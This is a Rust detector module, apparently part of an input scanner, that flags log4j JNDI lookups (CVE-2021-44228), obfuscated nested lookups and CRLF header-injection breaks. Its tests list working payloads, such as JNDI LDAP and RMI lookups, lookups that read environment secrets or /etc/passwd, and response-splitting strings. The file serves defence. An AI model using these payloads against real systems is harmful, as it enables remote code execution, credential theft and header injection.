//! JNDI lookups as log4j 2 resolves them (CVE-2021-44228), and line breaks that start a header.

use crate::bytes::{at, between, find, from, is_space, is_word, skip_space, starts, word_end};
use crate::finding::{Family, Finding};
use crate::lexicon::Lexicon;

/// Looks for `${jndi:...}`, nested lookups that build it included. Linear in the value's length.
pub fn lookup(value: &[u8]) -> Option<Finding> {
    let mut index = find(value, b"${", 0)?;
    let first = index;
    let mut nested = 0_u32;
    loop {
        let body = skip_blank(value, index + 2);
        let rest = from(value, body);
        if starts(rest, b"jndi:") {
            return Some(Finding::new(Family::Lookup, 98, "jndi", index));
        }
        // `${lower:j}`, `${env:X:-j}`, `${::-j}`: only a lookup inside of a lookup has a reason to build letters.
        let builds =
            starts(rest, b"lower:") || starts(rest, b"upper:") || starts(rest, b"::-") || defaulted(rest);
        nested += u32::from(builds);
        index = match find(value, b"${", index + 2) {
            Some(next) => next,
            None => break,
        };
    }
    let inside = from(value, first + 2);
    let glued = starts(inside, b"${")
        || at(inside, 0).is_ascii_alphabetic() && starts(from(inside, word_end(inside, 0)), b"${");
    let built = nested >= 2 || nested == 1 && glued;
    let built = built.then(|| Finding::new(Family::Lookup, 92, "nested-lookup", first));
    built.or_else(|| resolver(value, first))
}

/// What log4j 2 and Commons Text look up beside JNDI: those that run, fetch or read, and those that tell of the process.
/// Sorted.
static RESOLVERS: Lexicon = Lexicon::new(&[
    "base64",
    "base64decoder",
    "bundle",
    "const",
    "ctx",
    "dns",
    "docker",
    "env",
    "file",
    "java",
    "jvmrunargs",
    "k8s",
    "kubernetes",
    "main",
    "script",
    "spring",
    "sys",
    "url",
]);
/// Those of them that reach out, read or run. Sorted.
static REACHING: Lexicon =
    Lexicon::new(&["base64", "base64decoder", "bundle", "const", "dns", "file", "script", "url"]);

/// `${env:SECRET}`: sure when it is all there is, or when it reaches further than the process's own surroundings; within a
/// sentence it is what documentation looks like. A default (`${env:HOME:-x}`) makes no difference.
fn resolver(value: &[u8], first: usize) -> Option<Finding> {
    let mut index = first;
    loop {
        let name = skip_blank(value, index + 2);
        let end = word_end(value, name);
        let word = between(value, name, end);
        let behind = at(value, end + 1);
        if matches!(at(value, end), b':' | b'|')
            && (is_word(behind) || behind == b'$')
            && RESOLVERS.has(word)
            && let Some(close) = find(between(value, 0, end + 256), b"}", end)
        {
            let alone = first == index
                && between(value, 0, first).trim_ascii().is_empty()
                && (close + 1 >= value.trim_ascii_end().len() || at(value, close + 1) == b'$');
            let addressed = find(between(value, 0, first), b"://", 0).is_some();
            let confidence = match REACHING.has(word) {
                true => 84,
                false if alone || addressed => 74,
                false => 50,
            };
            return Some(Finding::new(Family::Lookup, confidence, "lookup", index));
        }
        index = find(value, b"${", index + 2)?;
    }
}

fn skip_blank(value: &[u8], mut index: usize) -> usize {
    while index < value.len() && is_space(at(value, index)) {
        index += 1;
    }
    index
}

fn defaulted(rest: &[u8]) -> bool {
    let head = between(rest, 0, 48);
    let end = head.iter().position(|b| matches!(b, b'}' | b'$')).unwrap_or(head.len());
    let inside = between(head, 0, end);
    find(inside, b":-", 0).is_some_and(|at_index| find(between(inside, 0, at_index), b":", 0).is_some())
        || starts(inside, b"date:'")
}

/// Looks for a line break with a header or a page behind it. Linear in the value's length.
///
/// In a text of several lines (`is_text`) a line may look like a header; there it counts behind one word or none, and is one that
/// splits a response.
pub fn header_break(value: &[u8], is_text: bool) -> Option<Finding> {
    // A break up to there stands behind one word or none.
    let word = skip_space(value, 0);
    let word = word + from(value, word).iter().position(|b| is_space(*b)).unwrap_or(value.len() - word);
    let lone_end = skip_space(value, word);
    let mut index = 0;
    while let Some(offset) = from(value, index).iter().position(|b| matches!(b, b'\r' | b'\n' | 0xe5)) {
        let start = index + offset;
        // U+560A and U+560D: whoever keeps but the last eight bits of a character is left with a line break.
        let mut line = start;
        while [&b"\xe5\x98\x8a"[..], b"\xe5\x98\x8d"].iter().any(|cut| from(value, line).starts_with(cut)) {
            line += 3;
        }
        if line == start && at(value, start) == 0xe5 {
            index = start + 1;
            continue;
        }
        // What was read of a run of such characters is not read again.
        let run_end = line.max(start + 1);
        while matches!(at(value, line), b'\r' | b'\n' | b' ' | b'\t') && line < start + 16 {
            line += 1;
        }
        let blank = from(value, start).starts_with(b"\r\n\r\n");
        let page =
            blank && [&b"<html"[..], b"<script", b"<body"].iter().any(|tag| starts(from(value, line), tag));
        let rest = from(value, line);
        let lone = start <= lone_end;
        let is_found = match is_text {
            true => lone && splits(rest),
            false => page || is_header(rest) || lone && is_extension(rest),
        };
        if is_found {
            return Some(Finding::new(Family::Header, 88, "header-break", start));
        }
        index = run_end;
    }
    None
}

/// What splits a response, and what no text of several words begins a line with.
fn splits(line: &[u8]) -> bool {
    const SPLITTING: [&[u8]; 4] = [b"set-cookie:", b"transfer-encoding:", b"x-xss-protection:", b"http/1.1 "];
    SPLITTING.iter().any(|name| starts(line, name))
}

/// `X-Anything:`, a header that no standard knows.
fn is_extension(line: &[u8]) -> bool {
    let name = line.iter().take(40).take_while(|b| b.is_ascii_alphanumeric() || **b == b'-').count();
    starts(line, b"x-") && name > 3 && at(line, name) == b':'
}

/// A header that an attacker wants to set, or a status line.
fn is_header(line: &[u8]) -> bool {
    const WANTED: [&[u8]; 12] = [
        b"set-cookie",
        b"location",
        b"content-type",
        b"content-length",
        b"transfer-encoding",
        b"host",
        b"refresh",
        b"x-forwarded-",
        b"access-control-",
        b"content-disposition",
        b"bcc",
        b"x-xss-protection",
    ];
    if starts(line, b"http/1.") && at(line, 8) == b' ' {
        return true;
    }
    WANTED.iter().any(|name| {
        let mut end = name.len();
        while starts(line, name) && name.ends_with(b"-") && (is_word(at(line, end)) || at(line, end) == b'-')
        {
            end += 1;
        }
        starts(line, name) && at(line, end) == b':'
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lookups_are_seen_through() {
        for attack in [
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:ldap://x}",
            "${${::-j}${::-n}di:rmi://x}",
            "x ${ jndi:dns://x }",
            "${j${lower:n}di:${upper:l}dap://x}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}",
        ] {
            assert!(lookup(attack.as_bytes()).is_some(), "{attack}");
        }
        for fine in [
            "${name}",
            "${HOME}/x",
            "costs $5 {net}",
            "jndi: see below",
            "${a} and ${b:-c}",
            "${date}",
            "${map:a}",
        ] {
            assert!(lookup(fine.as_bytes()).is_none(), "{fine}");
        }
        assert!(RESOLVERS.words().is_sorted() && REACHING.words().is_sorted());
        for attack in [
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${sys:user.name}",
            "${java:version}",
            "see ${script:javascript:7*7}",
            "http://x.test/?${env:TOKEN}",
            "${dns:address|x.test}",
            "${file:UTF-8:/etc/passwd}",
            "${ctx:a}${env:HOME}",
        ] {
            assert!(lookup(attack.as_bytes()).is_some_and(|f| f.confidence >= 70), "{attack}");
        }
        for fine in ["set ${env:PATH} in your settings", "url: ${url}", "${environment: a}", "${main}"] {
            assert!(lookup(fine.as_bytes()).is_none_or(|f| f.confidence < 70), "{fine}");
        }
    }

    #[test]
    fn headers_behind_a_break() {
        for attack in [
            "x\r\nSet-Cookie: a=b",
            "x\nLocation:http://x",
            "x\r\n\r\nHTTP/1.1 200 OK",
            "a\rX-Forwarded-Host: b",
            "a\r\n\r\n<html><b>x",
            "a\u{560d}\u{560a}Set-Cookie: a=b",
            "x\r\nX-Injected:1",
        ] {
            assert!(header_break(attack.as_bytes(), false).is_some(), "{attack}");
        }
        for fine in [
            "line\nline: two",
            "Dear host,\r\nthe location is: here",
            "a\nhosts: b",
            "a\r\n\r\n<p>x</p>",
            "\u{53e3} host: x \u{560a}",
        ] {
            assert!(header_break(fine.as_bytes(), false).is_none(), "{fine}");
        }
        assert!(header_break(b"x\r\nSet-Cookie: a=b", true).is_some());
        for fine in ["x\r\nLocation: Berlin", "the answer was:\r\nSet-Cookie: a=b", "two words\nX-Ray: 1"] {
            assert!(header_break(fine.as_bytes(), true).is_none(), "{fine}");
        }
    }
}
